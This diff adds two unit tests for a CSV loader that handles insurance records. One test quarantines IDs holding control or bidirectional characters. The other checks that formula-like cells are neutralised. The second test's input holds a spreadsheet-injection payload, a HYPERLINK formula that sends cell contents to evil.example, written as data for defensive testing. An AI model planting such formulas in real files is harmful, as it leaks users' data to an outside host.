@@ -392,6 +392,53 @@ public class FolderLoaderTests
     }
 
     [Fact]
+    public void Ids_holding_control_characters_are_quarantined_with_the_column_and_what_it_holds()
+    {
+        using var folder = TestFolder.WithMinimalRequiredFiles();
+        folder.Write("policyholders.csv", TestFolder.HoldersHeader + "\nH1,张三,,13812345678,,,\nH0002\0X,李四,,,,,\n\"H3\nH4\",王五,,,,,\nH5\u202E,赵六,,,,,\n");
+        folder.Write("policies.csv", TestFolder.PoliciesHeader + "\nP1,H1,A1,寿险,1,,\nP2,H0002\0X,A1,寿险,1,,\nP3,H1,A\u00071,寿险,1,,\n");
+        folder.Write("complaints.csv", "complaint_id,holder_id,policy_id\nM1,H1,\nM2,H1\0,\nM3,,P1\u2028\n");
+        var store = new RecordingStore();
+        var summary = Load(store, folder);
+
+        Assert.Equal(["H1"], store.Records.OfType<Policyholder>().Select(h => h.Id));
+        Assert.Equal(["P1"], store.Records.OfType<Policy>().Select(p => p.Id));
+        Assert.Equal(["M1"], store.Records.OfType<Complaint>().Select(c => c.Id));
+        Assert.All(store.Records, r => Assert.DoesNotContain(r.Id, c => char.IsControl(c) || c == '\u202E'));
+        foreach (var f in summary.Files) Assert.Equal(f.Read, f.Loaded + f.Quarantined);
+
+        var holders = ReadCsv(folder.Quarantine("policyholders.csv"));
+        Assert.Equal(["3", "4", "6"], holders.Skip(1).Select(r => r[0]));
+        Assert.Equal("holder_id holds a NUL byte; ids may not hold control characters", holders[1][1]);
+        Assert.Contains("holder_id holds a line break", holders[2][1]);
+        Assert.Contains("holder_id holds U+202E", holders[3][1]);
+        var policies = ReadCsv(folder.Quarantine("policies.csv"));
+        Assert.Contains("holder_id holds a NUL byte", policies[1][1]);
+        Assert.Contains("agent_id holds U+0007", policies[2][1]);
+        var complaints = ReadCsv(folder.Quarantine("complaints.csv"));
+        Assert.Contains("holder_id holds a NUL byte", complaints[1][1]);
+        Assert.Contains("policy_id holds a line break", complaints[2][1]);
+    }
+
+    [Fact]
+    public void Quarantined_cells_that_a_spreadsheet_would_run_as_formulas_are_guarded()
+    {
+        using var folder = TestFolder.WithMinimalRequiredFiles();
+        folder.Write("policyholders.csv", TestFolder.HoldersHeader +
+            "\nH1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",,+8613812345678,-2+3,@SUM(A1),not-a-date\n");
+        var summary = Load(new RecordingStore(), folder);
+        Assert.Equal(1, summary.Quarantined);
+
+        var text = File.ReadAllText(folder.Quarantine("policyholders.csv"));
+        Assert.Contains("\"'=HYPERLINK(", text);
+        Assert.Contains(",'+8613812345678,", text);
+        Assert.Contains(",'-2+3,", text);
+        Assert.Contains(",'@SUM(A1),", text);
+        var row = ReadCsv(folder.Quarantine("policyholders.csv"))[1];
+        Assert.All(row, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
+    }
+
+    [Fact]
     public void Invalid_phones_ids_and_accounts_are_kept_raw_and_counted_not_quarantined()
     {
         using var folder = TestFolder.WithMinimalRequiredFiles();
